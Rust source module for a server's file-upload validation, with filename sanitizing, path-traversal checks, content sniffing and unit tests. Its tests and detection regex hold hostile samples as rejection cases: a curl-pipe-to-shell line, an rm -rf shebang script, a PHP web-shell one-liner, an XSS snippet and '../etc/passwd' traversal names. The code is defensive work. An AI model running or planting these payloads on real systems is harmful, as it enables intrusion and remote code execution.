//! Upload validation and storage.
//!
//! Filenames are sanitized before they touch the filesystem, and every stored
//! file gets a unique prefix so uploads never collide or leave `upload_dir`.
//! File contents are sniffed by their leading bytes and must agree with the
//! extension; executables and embedded scripts are refused.

use docgraph_domain::FileType;
use infer::MatcherType;
use regex::Regex;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;
use thiserror::Error;
use tracing::{debug, warn};
use uuid::Uuid;

/// Longest accepted client filename, in characters
pub const MAX_FILENAME_LENGTH: usize = 255;

/// Longest accepted `new_text` on update, in characters
pub const MAX_TEXT_LENGTH: usize = 1_000_000;

const DOCX_MIME: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

static SCRIPT_MARKERS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)<script\b|<iframe\b|<object\b|<embed\b|javascript:|vbscript:|data:text/html|<\?php|<%@",
    )
    .expect("valid script marker pattern")
});

/// Rejected upload
#[derive(Debug, Error, Clone, PartialEq)]
pub enum UploadError {
    /// No filename was sent
    #[error("Filename cannot be empty")]
    EmptyFilename,

    /// Filename over [`MAX_FILENAME_LENGTH`]
    #[error("Filename too long: {0} characters (maximum {max})", max = MAX_FILENAME_LENGTH)]
    FilenameTooLong(usize),

    /// Filename names a path rather than a file
    #[error("Filename contains a path: {0}")]
    PathInFilename(String),

    /// Extension outside the supported set
    #[error("File type not supported: {found}. Allowed: {allowed}", allowed = FileType::supported_list())]
    UnsupportedFileType {
        /// Offending filename
        found: String,
    },

    /// Zero-byte upload
    #[error("File is empty")]
    EmptyFile,

    /// Upload over the configured limit
    #[error("File too large: {size} bytes (maximum {max} bytes)")]
    FileTooLarge {
        /// Received size
        size: usize,
        /// Configured limit
        max: usize,
    },

    /// Content is a program or script
    #[error("File content is executable ({0})")]
    ExecutableContent(String),

    /// Content does not match the extension
    #[error("File content ({detected}) does not match its .{file_type} extension")]
    ContentMismatch {
        /// Type claimed by the extension
        file_type: FileType,
        /// Detected MIME type, or "unknown"
        detected: String,
    },

    /// Text contains markup that could run in a browser or server
    #[error("File contains suspicious content: {0}")]
    SuspiciousContent(String),

    /// Blank update text
    #[error("Text content cannot be empty")]
    EmptyText,

    /// Update text over [`MAX_TEXT_LENGTH`]
    #[error("Text content too long: {0} characters (maximum {max})", max = MAX_TEXT_LENGTH)]
    TextTooLong(usize),
}

/// An upload that passed validation
#[derive(Debug, Clone, PartialEq)]
pub struct ValidatedUpload {
    /// Filename restricted to `[A-Za-z0-9_.-]`
    pub filename: String,

    /// Type derived from the extension
    pub file_type: FileType,
}

/// Replace every character outside `[A-Za-z0-9_.-]` with `_`
pub fn sanitize_filename(filename: &str) -> String {
    filename
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-') {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// Validate a client filename and payload size
///
/// # Examples
///
/// ```
/// use docgraph_domain::FileType;
/// use docgraph_server::upload::validate_upload;
///
/// let upload = validate_upload("Q3 report.PDF", 2048, 10 * 1024 * 1024).unwrap();
/// assert_eq!(upload.filename, "Q3_report.PDF");
/// assert_eq!(upload.file_type, FileType::Pdf);
/// ```
pub fn validate_upload(
    filename: &str,
    size: usize,
    max_size: usize,
) -> Result<ValidatedUpload, UploadError> {
    let filename = filename.trim();
    if filename.is_empty() {
        return Err(UploadError::EmptyFilename);
    }

    let length = filename.chars().count();
    if length > MAX_FILENAME_LENGTH {
        return Err(UploadError::FilenameTooLong(length));
    }

    if filename.contains(['/', '\\']) || filename.contains("..") {
        return Err(UploadError::PathInFilename(filename.to_string()));
    }

    let file_type = FileType::from_filename(filename).ok_or_else(|| {
        UploadError::UnsupportedFileType {
            found: filename.to_string(),
        }
    })?;

    if size == 0 {
        return Err(UploadError::EmptyFile);
    }
    if size > max_size {
        return Err(UploadError::FileTooLarge {
            size,
            max: max_size,
        });
    }

    Ok(ValidatedUpload {
        filename: sanitize_filename(filename),
        file_type,
    })
}

/// Check that `bytes` really hold a file of type `file_type`
///
/// PDF and DOCX must carry their signatures. Text files must not sniff as
/// any binary format and must not contain script markup. Programs and
/// shebang scripts are refused whatever the extension.
///
/// # Examples
///
/// ```
/// use docgraph_domain::FileType;
/// use docgraph_server::upload::{inspect_content, UploadError};
///
/// assert!(inspect_content(FileType::Txt, b"Alice met Bob.").is_ok());
/// assert!(matches!(
///     inspect_content(FileType::Txt, b"#!/bin/sh\nrm -rf /tmp/x\n"),
///     Err(UploadError::ExecutableContent(_))
/// ));
/// ```
pub fn inspect_content(file_type: FileType, bytes: &[u8]) -> Result<(), UploadError> {
    let detected = infer::get(bytes);

    if let Some(kind) = &detected {
        if kind.matcher_type() == MatcherType::App || kind.mime_type() == "text/x-shellscript" {
            warn!(mime = kind.mime_type(), "Executable upload refused");
            return Err(UploadError::ExecutableContent(kind.mime_type().to_string()));
        }
    }

    let matches_extension = match (file_type, &detected) {
        (FileType::Pdf, Some(kind)) => kind.mime_type() == "application/pdf",
        (FileType::Docx, Some(kind)) => matches!(kind.mime_type(), DOCX_MIME | "application/zip"),
        (FileType::Pdf | FileType::Docx, None) => false,
        (FileType::Txt | FileType::Csv, Some(kind)) => kind.matcher_type() == MatcherType::Text,
        (FileType::Txt | FileType::Csv, None) => true,
    };
    if !matches_extension {
        return Err(UploadError::ContentMismatch {
            file_type,
            detected: detected.as_ref().map_or("unknown", |k| k.mime_type()).to_string(),
        });
    }

    if matches!(file_type, FileType::Txt | FileType::Csv) {
        let text = String::from_utf8_lossy(bytes);
        if let Some(found) = SCRIPT_MARKERS.find(&text) {
            warn!(marker = found.as_str(), "Upload with script markup refused");
            return Err(UploadError::SuspiciousContent(found.as_str().to_string()));
        }
    }

    Ok(())
}

/// Check update text: non-blank and at most [`MAX_TEXT_LENGTH`] characters
pub fn validate_text(text: &str) -> Result<(), UploadError> {
    if text.trim().is_empty() {
        return Err(UploadError::EmptyText);
    }
    let length = text.chars().count();
    if length > MAX_TEXT_LENGTH {
        return Err(UploadError::TextTooLong(length));
    }
    Ok(())
}

/// Remove a stored upload that no document will reference
pub async fn discard_upload(path: &Path) {
    match tokio::fs::remove_file(path).await {
        Ok(()) => debug!(path = %path.display(), "Discarded upload"),
        Err(e) => warn!(path = %path.display(), error = %e, "Failed to discard upload"),
    }
}

/// Write `bytes` into `upload_dir` under a unique name; returns the path
pub async fn store_upload(
    upload_dir: &Path,
    filename: &str,
    bytes: &[u8],
) -> std::io::Result<PathBuf> {
    tokio::fs::create_dir_all(upload_dir).await?;

    let path = upload_dir.join(format!("{}_{}", Uuid::now_v7(), filename));
    tokio::fs::write(&path, bytes).await?;

    debug!(path = %path.display(), bytes = bytes.len(), "Stored upload");
    Ok(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    const MAX: usize = 1024;

    #[test]
    fn test_sanitize_filename() {
        assert_eq!(sanitize_filename("report-2024_v1.txt"), "report-2024_v1.txt");
        assert_eq!(sanitize_filename("my file (final).csv"), "my_file__final_.csv");
        assert_eq!(sanitize_filename("résumé.pdf"), "r_sum_.pdf");
    }

    #[test]
    fn test_valid_upload() {
        let upload = validate_upload("notes.TXT", 10, MAX).unwrap();
        assert_eq!(upload.filename, "notes.TXT");
        assert_eq!(upload.file_type, FileType::Txt);
    }

    #[test]
    fn test_empty_filename() {
        assert_eq!(validate_upload("  ", 10, MAX), Err(UploadError::EmptyFilename));
    }

    #[test]
    fn test_long_filename() {
        let name = format!("{}.txt", "a".repeat(300));
        assert_eq!(
            validate_upload(&name, 10, MAX),
            Err(UploadError::FilenameTooLong(304))
        );
    }

    #[test]
    fn test_path_traversal_rejected() {
        for name in ["../etc/passwd.txt", "dir/file.txt", "..\\boot.csv", "a..b.txt"] {
            assert!(
                matches!(validate_upload(name, 10, MAX), Err(UploadError::PathInFilename(_))),
                "{} should be rejected",
                name
            );
        }
    }

    #[test]
    fn test_unsupported_extension() {
        let err = validate_upload("malware.exe", 10, MAX).unwrap_err();
        assert!(matches!(err, UploadError::UnsupportedFileType { .. }));
        assert!(err.to_string().contains(".pdf, .docx, .txt, .csv"));

        assert!(matches!(
            validate_upload("README", 10, MAX),
            Err(UploadError::UnsupportedFileType { .. })
        ));
    }

    #[test]
    fn test_size_limits() {
        assert_eq!(validate_upload("a.txt", 0, MAX), Err(UploadError::EmptyFile));
        assert!(validate_upload("a.txt", MAX, MAX).is_ok());
        assert_eq!(
            validate_upload("a.txt", MAX + 1, MAX),
            Err(UploadError::FileTooLarge {
                size: MAX + 1,
                max: MAX
            })
        );
    }

    fn elf_binary() -> Vec<u8> {
        let mut bytes = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0];
        bytes.resize(64, 0);
        bytes
    }

    #[test]
    fn test_plain_text_and_csv_accepted() {
        assert_eq!(inspect_content(FileType::Txt, b"Alice works at Acme."), Ok(()));
        assert_eq!(inspect_content(FileType::Csv, b"name,role\nCarol,CTO\n"), Ok(()));
    }

    #[test]
    fn test_executables_rejected_whatever_the_extension() {
        for file_type in [FileType::Txt, FileType::Csv, FileType::Pdf] {
            assert!(matches!(
                inspect_content(file_type, &elf_binary()),
                Err(UploadError::ExecutableContent(_))
            ));
        }
        assert!(matches!(
            inspect_content(FileType::Txt, b"MZ\x90\x00\x03\x00\x00\x00"),
            Err(UploadError::ExecutableContent(_))
        ));
        assert!(matches!(
            inspect_content(FileType::Txt, b"#!/bin/sh\ncurl example.com | sh\n"),
            Err(UploadError::ExecutableContent(_))
        ));
    }

    #[test]
    fn test_content_must_match_extension() {
        assert!(inspect_content(FileType::Pdf, b"%PDF-1.4\n%broken").is_ok());
        assert_eq!(
            inspect_content(FileType::Pdf, b"just some text"),
            Err(UploadError::ContentMismatch {
                file_type: FileType::Pdf,
                detected: "unknown".to_string(),
            })
        );

        let err = inspect_content(FileType::Txt, b"%PDF-1.4\n%broken").unwrap_err();
        assert_eq!(
            err,
            UploadError::ContentMismatch {
                file_type: FileType::Txt,
                detected: "application/pdf".to_string(),
            }
        );
        assert!(err.to_string().contains(".txt extension"));

        assert!(matches!(
            inspect_content(FileType::Docx, b"plain words"),
            Err(UploadError::ContentMismatch { .. })
        ));
    }

    #[test]
    fn test_script_markup_rejected() {
        for text in [
            "Hello <SCRIPT>alert(1)</script>",
            "name,link\nbob,javascript:void(0)",
            "<?php system($_GET['c']); ?>",
        ] {
            assert!(
                matches!(
                    inspect_content(FileType::Txt, text.as_bytes()),
                    Err(UploadError::SuspiciousContent(_))
                ),
                "{} should be rejected",
                text
            );
        }
        assert!(inspect_content(FileType::Txt, b"Scripts and objects are fine as words.").is_ok());
    }

    #[test]
    fn test_validate_text() {
        assert_eq!(validate_text("new facts"), Ok(()));
        assert_eq!(validate_text(" \n "), Err(UploadError::EmptyText));
        assert_eq!(validate_text(&"a".repeat(MAX_TEXT_LENGTH)), Ok(()));
        assert_eq!(
            validate_text(&"a".repeat(MAX_TEXT_LENGTH + 1)),
            Err(UploadError::TextTooLong(MAX_TEXT_LENGTH + 1))
        );
    }

    #[tokio::test]
    async fn test_discard_upload_removes_file() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = store_upload(dir.path(), "a.txt", b"one").await.unwrap();

        discard_upload(&path).await;
        assert!(!path.exists());

        // Already gone: logged, not an error
        discard_upload(&path).await;
    }

    #[tokio::test]
    async fn test_store_upload_unique_names() {
        let dir = tempfile::TempDir::new().unwrap();
        let upload_dir = dir.path().join("uploads");

        let first = store_upload(&upload_dir, "a.txt", b"one").await.unwrap();
        let second = store_upload(&upload_dir, "a.txt", b"two").await.unwrap();

        assert_ne!(first, second);
        assert!(first.starts_with(&upload_dir));
        assert!(first.to_string_lossy().ends_with("_a.txt"));
        assert_eq!(std::fs::read(&second).unwrap(), b"two");
    }
}
